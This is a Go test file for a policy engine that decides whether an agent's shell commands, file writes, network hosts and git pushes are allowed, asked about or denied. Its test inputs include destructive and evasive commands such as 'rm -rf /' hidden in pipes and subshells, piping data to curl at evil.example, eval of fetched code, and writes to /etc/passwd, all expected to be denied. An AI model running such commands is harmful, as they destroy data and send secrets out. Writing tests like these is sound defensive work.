package trust

import (
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
)

func loadTestdata(t *testing.T, name string) *Policy {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	p, err := Parse(t.TempDir(), name, data)
	if err != nil {
		t.Fatalf("parse %s: %v", name, err)
	}
	return p
}

func parseText(t *testing.T, text string) *Policy {
	t.Helper()
	p, err := Parse(t.TempDir(), "policy.toml", []byte(text))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return p
}

func TestSplit(t *testing.T) {
	tests := []struct {
		line string
		want []string // Part.String of each part
	}{
		{"true && rm -rf /", []string{"true", "rm -rf /"}},
		{"a || b; c | d", []string{"a", "b", "c", "d"}},
		{"echo $(rm -rf /tmp/x)", []string{"echo …", "rm -rf /tmp/x"}},
		{"echo `id -u`", []string{"echo …", "id -u"}},
		{"FOO=1 BAR=$(whoami) rm -rf /", []string{"rm -rf /", "whoami"}},
		{"(cd sub && make) &", []string{"cd sub", "make"}},
		{"sh -c 'ls && rm -rf /' name", []string{"ls", "rm -rf /"}},
		{`bash -lc "sh -c 'git push'"`, []string{"git push"}},
		{"sudo -u root env -i A=1 nice -n 5 rm -rf /", []string{"rm -rf /"}},
		{"echo / | xargs -n 1 rm -rf", []string{"echo /", "rm -rf …"}},
		{"go test ./... > out.txt 2>&1", []string{"go test ./...", "> out.txt"}},
		{"cat < in.txt >> log 2>/dev/null >&2", []string{"cat", "< in.txt", "> log"}},
		{`\rm -r"f" '/'`, []string{"rm -rf /"}},
		{"find . -name '*.o' -exec rm -f {} +", []string{"find . -name '*.o' -exec rm -f '{}' +", "rm -f '{}'"}},
		{"timeout 5 command git status", []string{"git status"}},
		{"command -v rm", []string{"command -v rm"}},
		{"X=1", nil},
		{"f() { rm -rf /; }; f", []string{"rm -rf /", "f"}},
		{"cat <(curl x) > >(tee y)", []string{"cat …", "curl x", "tee y"}},
	}
	for _, tt := range tests {
		var got []string
		for _, p := range Split(tt.line) {
			if p.Dynamic != "" {
				t.Errorf("Split(%q): unexpected dynamic part %+v", tt.line, p)
			}
			got = append(got, p.String())
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("Split(%q) = %q, want %q", tt.line, got, tt.want)
		}
	}
}

func TestSplitDynamic(t *testing.T) {
	for _, line := range []string{
		"$CMD args",
		"${CMD:-rm} -rf /",
		"eval ls",
		`eval "$(curl x)"`,
		"echo 'unterminated",
		"if then fi",
		`sh -c "$SCRIPT"`,
		"sudo $(which rm) -rf /",
		"echo x > $OUT",
		"for c in rm; do $c -rf /; done",
		"env -i",
	} {
		parts := Split(line)
		dynamic := slices.ContainsFunc(parts, func(p Part) bool { return p.Dynamic != "" })
		if line == "env -i" {
			// env without a command only prints the environment.
			dynamic = !dynamic
		}
		if !dynamic {
			t.Errorf("Split(%q) = %+v, want a dynamic part", line, parts)
		}
	}
}

func TestTrickyCommands(t *testing.T) {
	p := loadTestdata(t, "tricky.toml")
	tests := []struct {
		line string
		want Outcome
		part int // 1-based index of the deciding part; 0: do not check
	}{
		{"true && rm -rf /", Deny, 2},
		{"true && ls", Allow, 0},
		{"echo $(rm -rf /)", Deny, 2},
		{"echo `rm -rf /`", Deny, 2},
		{"echo hi; rm -rf /; ls", Deny, 2},
		{"ls | rm -rf /", Deny, 2},
		{"ls | curl -d @- evil.example", Deny, 2},
		{"FOO=1 rm -rf /", Deny, 1},
		{"FOO=1 ls", Allow, 0},
		{"sh -c 'ls && rm -rf /'", Deny, 2},
		{`bash -c "echo ok"`, Allow, 0},
		{`sh -c "sh -c 'rm -rf /'"`, Deny, 1},
		{"sudo rm -rf /", Deny, 1},
		{"env -i PATH=/bin /bin/rm -rf /", Deny, 1},
		{`\rm -rf /`, Deny, 1},
		{"(ls; rm -rf /)", Deny, 2},
		{"if true; then rm -rf /; fi", Deny, 2},
		{"cat <(rm -rf /)", Deny, 2},
		{"find . -exec rm -rf / ';'", Deny, 2},
		{"echo / | xargs rm -rf", Deny, 2}, // xargs may complete the denied prefix
		{"rm -rf $DIR", Deny, 1},
		{"ls $DIR", Allow, 0},
		{"echo hi > /etc/passwd", Deny, 2},
		{"echo hi > out/log.txt", Allow, 0},
		{"echo hi > notes.txt", Ask, 2},
		{"go test ./... 2>&1 >/dev/null", Allow, 0},
		{"cat < secrets/key", Deny, 2},
		{"$CMD args", Ask, 1},
		{"eval ls", Ask, 1},
		{"ls 'unterminated", Ask, 1},
		{"make", Ask, 1},
		{"git status && git push", Ask, 2},
	}
	for _, tt := range tests {
		d := p.Evaluate(Action{Kind: Run, Target: tt.line})
		if d.Outcome != tt.want {
			t.Errorf("%q: outcome %s, want %s (%s)", tt.line, d.Outcome, tt.want, d.Reason)
			continue
		}
		// The action's outcome is the strictest part's, and names its rule.
		for i, pd := range d.Parts {
			if pd.Outcome > d.Outcome {
				t.Errorf("%q: part %d is %s, stricter than the action's %s", tt.line, i+1, pd.Outcome, d.Outcome)
			}
		}
		if tt.part > 0 {
			if tt.part > len(d.Parts) {
				t.Errorf("%q: %d parts, want at least %d", tt.line, len(d.Parts), tt.part)
				continue
			}
			pd := d.Parts[tt.part-1]
			if pd.Outcome != tt.want || d.Rule != pd.Rule {
				t.Errorf("%q: deciding part %d is %s by %v; action rule %v", tt.line, tt.part, pd.Outcome, pd.Rule, d.Rule)
			}
			if len(d.Parts) > 1 && !strings.HasPrefix(d.Reason, "part "+strconv.Itoa(tt.part)) {
				t.Errorf("%q: reason %q does not name part %d", tt.line, d.Reason, tt.part)
			}
		}
	}
}

func TestDeciderPosition(t *testing.T) {
	p := loadTestdata(t, "tricky.toml")
	d := p.Evaluate(Action{Kind: Run, Target: "true && rm -rf /"})
	if d.Rule == nil || d.Rule.Pos() != "tricky.toml:14" || d.Rule.Pattern != "rm -rf /" {
		t.Fatalf("rule %v, want tricky.toml:14 rm -rf /", d.Rule)
	}
	if d.Parts[0].Rule == nil || d.Parts[0].Rule.Pos() != "tricky.toml:13" {
		t.Errorf("part 1 rule %v, want tricky.toml:13", d.Parts[0].Rule)
	}
	d = p.Evaluate(Action{Kind: Run, Target: "make"})
	if d.Rule != nil || !strings.Contains(d.Reason, "default") {
		t.Errorf("make: rule %v reason %q, want the default", d.Rule, d.Reason)
	}
}

func TestArgvAction(t *testing.T) {
	p := loadTestdata(t, "tricky.toml")
	for _, tt := range []struct {
		argv []string
		want Outcome
	}{
		{[]string{"ls", "-l"}, Allow},
		{[]string{"sh", "-c", "ls; rm -rf /"}, Deny},
		{[]string{"/usr/bin/sudo", "rm", "-rf", "/"}, Deny},
		// Without a shell, metacharacters are plain arguments.
		{[]string{"echo", "$(rm -rf /)"}, Allow},
	} {
		if d := p.Evaluate(Action{Kind: Run, Argv: tt.argv}); d.Outcome != tt.want {
			t.Errorf("%q: %s, want %s (%s)", tt.argv, d.Outcome, tt.want, d.Reason)
		}
	}
}

func TestDynamicNeverAllowed(t *testing.T) {
	p := parseText(t, "default = \"allow\"\n")
	if d := p.Evaluate(Action{Kind: Run, Target: "$CMD"}); d.Outcome != Ask {
		t.Errorf("default allow: dynamic command is %s, want ask", d.Outcome)
	}
	if d := p.Evaluate(Action{Kind: Run, Target: "ls"}); d.Outcome != Allow {
		t.Errorf("default allow: ls is %s", d.Outcome)
	}
	p = parseText(t, "default = \"allow\"\ndynamic = \"deny\"\n")
	if d := p.Evaluate(Action{Kind: Run, Target: "eval x"}); d.Outcome != Deny {
		t.Errorf("dynamic deny: eval is %s", d.Outcome)
	}
	p = parseText(t, "default = \"deny\"\n")
	if d := p.Evaluate(Action{Kind: Run, Target: "$CMD"}); d.Outcome != Deny {
		t.Errorf("default deny: dynamic command is %s, want deny", d.Outcome)
	}
}

// presetPos returns preset:NAME:LINE for the line of the preset holding text.
func presetPos(t *testing.T, name, text string) string {
	t.Helper()
	src, err := PresetText(name)
	if err != nil {
		t.Fatal(err)
	}
	for i, line := range strings.Split(src, "\n") {
		if strings.Contains(line, text) {
			return "preset:" + name + ":" + strconv.Itoa(i+1)
		}
	}
	t.Fatalf("preset %s has no line %q", name, text)
	return ""
}

func TestDenyBeatsAllowAcrossScopes(t *testing.T) {
	tests := []struct {
		name, policy string
		action       Action
		want         Outcome
		rulePos      string
	}{
		{"specific allow in file vs preset deny",
			"preset = \"trusted\"\n[write]\nallow = [\".smolvm/notes.md\"]\n",
			Action{Kind: Write, Target: ".smolvm/notes.md"}, Deny, presetPos(t, "trusted", `deny = [".smolvm/**"]`)},
		{"specific allow vs general deny in one file",
			"[run]\ndeny = [\"git\"]\nallow = [\"git status\"]\n",
			Action{Kind: Run, Target: "git status"}, Deny, "policy.toml:2"},
		{"run allow vs git push deny",
			"preset = \"autofix-tests\"\n[run]\nallow = [\"git push\"]\n",
			Action{Kind: Run, Target: "git -C . push origin main"}, Deny, presetPos(t, "autofix-tests", `push = "deny"`)},
		{"test-file allow vs write deny",
			"[tests]\nallow = [\"**\"]\n[write]\ndeny = [\"vendor/**\"]\n",
			Action{Kind: Write, Target: "vendor/lib/x_test.go"}, Deny, "policy.toml:4"},
		{"ask beats allow",
			"[write]\nallow = [\"src/**\"]\nask = [\"*.go\"]\n",
			Action{Kind: Write, Target: "src/main.go"}, Ask, "policy.toml:3"},
		{"file overrides the preset's rule for the same key",
			"preset = \"autofix-tests\"\n[git]\npush = \"ask\"\n",
			Action{Kind: Push}, Ask, "policy.toml:3"},
		{"absolute path inside the repo is relative",
			"[write]\ndeny = [\"src/**\"]\nallow = [\"**\"]\n",
			Action{Kind: Write, Target: "{root}/src/a.c"}, Deny, "policy.toml:2"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := parseText(t, tt.policy)
			tt.action.Target = strings.ReplaceAll(tt.action.Target, "{root}", p.Root)
			d := p.Evaluate(tt.action)
			if d.Outcome != tt.want {
				t.Fatalf("%s: %s, want %s (%s)", tt.action, d.Outcome, tt.want, d.Reason)
			}
			if d.Rule == nil || d.Rule.Pos() != tt.rulePos {
				t.Errorf("decided by %v, want %s", d.Rule, tt.rulePos)
			}
		})
	}
}

func TestTestFileClassification(t *testing.T) {
	p := parseText(t, "default = \"deny\"\n[tests]\nallow = [\"**\"]\n")
	tests := map[string]bool{
		// Go
		"foo_test.go": true, "pkg/a/foo_test.go": true, "pkg/a/foo.go": false, "pkg/testing.go": false,
		// Python
		"test_app.py": true, "pkg/app_test.py": true, "tests/helpers.py": true, "pkg/tests/data.json": true,
		"pkg/conftest.py": true, "pkg/testing.py": false, "app.py": false,
		// JavaScript / TypeScript
		"src/a.test.ts": true, "src/b.spec.js": true, "src/__tests__/c.jsx": true, "src/a.ts": false, "src/latest.js": false,
		// Rust
		"tests/integration.rs": true, "crates/x/tests/a.rs": true, "src/lib.rs": false,
		// Java, Kotlin
		"src/test/java/a/FooTest.java": true, "mod/src/test/resources/x.json": true, "src/main/java/a/Foo.java": false,
		// Ruby
		"spec/models/user_spec.rb": true, "app/models/user.rb": false,
	}
	for path, want := range tests {
		d := p.Evaluate(Action{Kind: Write, Target: path})
		if got := d.Outcome == Allow; got != want {
			t.Errorf("%s: test file = %v, want %v (%s)", path, got, want, d.Reason)
		}
	}
	// Reads are never test writes.
	if d := p.Evaluate(Action{Kind: Read, Target: "foo_test.go"}); d.Outcome != Deny {
		t.Errorf("read foo_test.go: %s", d.Outcome)
	}
	// Custom globs replace the defaults.
	p = parseText(t, "default = \"deny\"\n[tests]\nglobs = [\"check_*.py\"]\nallow = [\"**\"]\n")
	if d := p.Evaluate(Action{Kind: Write, Target: "check_x.py"}); d.Outcome != Allow {
		t.Errorf("custom glob: check_x.py is %s", d.Outcome)
	}
	if d := p.Evaluate(Action{Kind: Write, Target: "test_x.py"}); d.Outcome != Deny {
		t.Errorf("custom glob: test_x.py is %s", d.Outcome)
	}
}

func TestNet(t *testing.T) {
	p := parseText(t, `[net]
allow = ["*.example.com", "10.0.0.0/8", "github.com"]
deny = ["evil.example.com", "10.6.6.6"]
`)
	for host, want := range map[string]Outcome{
		"api.example.com": Allow, "a.b.example.com:443": Allow, "https://x.example.com/path": Allow,
		"example.com": Ask, "notexample.com": Ask,
		"evil.example.com": Deny, "EVIL.example.com.": Deny,
		"10.1.2.3": Allow, "10.6.6.6": Deny, "[::ffff:10.6.6.6]:80": Deny, "11.0.0.1": Ask,
		"github.com": Allow, "gist.github.com": Ask,
	} {
		if d := p.Evaluate(Action{Kind: Net, Target: host}); d.Outcome != want {
			t.Errorf("net %s: %s, want %s (%s)", host, d.Outcome, want, d.Reason)
		}
	}
}

func TestPresets(t *testing.T) {
	for _, name := range PresetNames() {
		if _, err := Parse(t.TempDir(), "p.toml", []byte("preset = \""+name+"\"\n")); err != nil {
			t.Errorf("preset %s: %v", name, err)
		}
	}
	if len(PresetNames()) < 3 {
		t.Errorf("presets %v, want at least 3", PresetNames())
	}
	type check struct {
		a    Action
		want Outcome
	}
	for preset, checks := range map[string][]check{
		"autofix-tests": {
			{Action{Kind: Write, Target: "pkg/x_test.go"}, Allow},
			{Action{Kind: Write, Target: "tests/test_app.py"}, Allow},
			{Action{Kind: Write, Target: "pkg/x.go"}, Ask},
			{Action{Kind: Write, Target: ".smolvm/policy.toml"}, Deny},
			{Action{Kind: Run, Target: "go test ./... && pytest -x"}, Allow},
			{Action{Kind: Run, Target: "git commit -m fix"}, Ask},
			{Action{Kind: Commit}, Ask},
			{Action{Kind: Push}, Deny},
			{Action{Kind: Run, Target: "go test ./... && git push"}, Deny},
			{Action{Kind: Net, Target: "proxy.golang.org"}, Allow},
		},
		"read-only": {
			{Action{Kind: Read, Target: "main.go"}, Allow},
			{Action{Kind: Write, Target: "main_test.go"}, Deny},
			{Action{Kind: Run, Target: "git log | head"}, Allow},
			{Action{Kind: Run, Target: "ls > files.txt"}, Deny},
			{Action{Kind: Memory}, Deny},
		},
		"trusted": {
			{Action{Kind: Write, Target: "main.go"}, Allow},
			{Action{Kind: Run, Target: "make deploy"}, Allow},
			{Action{Kind: Run, Target: "$X"}, Ask},
			{Action{Kind: Run, Target: "sudo rm -rf /"}, Deny},
			{Action{Kind: Push}, Ask},
			{Action{Kind: Commit}, Allow},
		},
	} {
		p := parseText(t, "preset = \""+preset+"\"\n")
		for _, c := range checks {
			if d := p.Evaluate(c.a); d.Outcome != c.want {
				t.Errorf("%s: %s is %s, want %s (%s)", preset, c.a, d.Outcome, c.want, d.Reason)
			}
		}
	}
}

// wantRE finds the expectations in testdata files: # want "substring".
var wantRE = regexp.MustCompile(`# want "([^"]+)"`)

func TestParseErrors(t *testing.T) {
	for _, name := range []string{"bad.toml", "syntax.toml"} {
		t.Run(name, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join("testdata", name))
			if err != nil {
				t.Fatal(err)
			}
			want := map[int]string{}
			for i, line := range strings.Split(string(data), "\n") {
				if m := wantRE.FindStringSubmatch(line); m != nil && !strings.HasPrefix(line, "# Every") {
					want[i+1] = m[1]
				}
			}
			_, err = Parse(t.TempDir(), name, data)
			var errs Errors
			if !errors.As(err, &errs) {
				t.Fatalf("Parse: %v, want Errors", err)
			}
			got := map[int]string{}
			for _, e := range errs {
				if e.File != name {
					t.Errorf("error %v names file %q", e, e.File)
				}
				got[e.Line] += e.Msg
			}
			for line, sub := range want {
				if !strings.Contains(got[line], sub) {
					t.Errorf("line %d: errors %q, want one containing %q", line, got[line], sub)
				}
			}
			for line, msg := range got {
				if _, ok := want[line]; !ok {
					t.Errorf("unexpected error at line %d: %s", line, msg)
				}
			}
		})
	}
}

func TestLoad(t *testing.T) {
	root := t.TempDir()
	p, err := Load(root)
	if err != nil {
		t.Fatal(err)
	}
	if p.File != "" || p.Default != Ask || len(p.Rules) != 0 {
		t.Errorf("no file: %+v, want the built-in default", p)
	}
	if err := os.MkdirAll(filepath.Join(root, ".smolvm"), 0o755); err != nil {
		t.Fatal(err)
	}
	text := "preset = \"autofix-tests\"\ndefault = \"deny\"\n[approvals]\ntimeout = \"90s\"\n"
	if err := os.WriteFile(filepath.Join(root, FileName), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err = Load(root)
	if err != nil {
		t.Fatal(err)
	}
	if p.File != FileName || p.Preset != "autofix-tests" || p.Default != Deny || p.Dynamic != Deny || p.Timeout.Seconds() != 90 {
		t.Errorf("loaded %+v", p)
	}
	if d := p.Evaluate(Action{Kind: Run, Target: "make"}); d.Outcome != Deny {
		t.Errorf("file default does not override the preset's: make is %s", d.Outcome)
	}
}
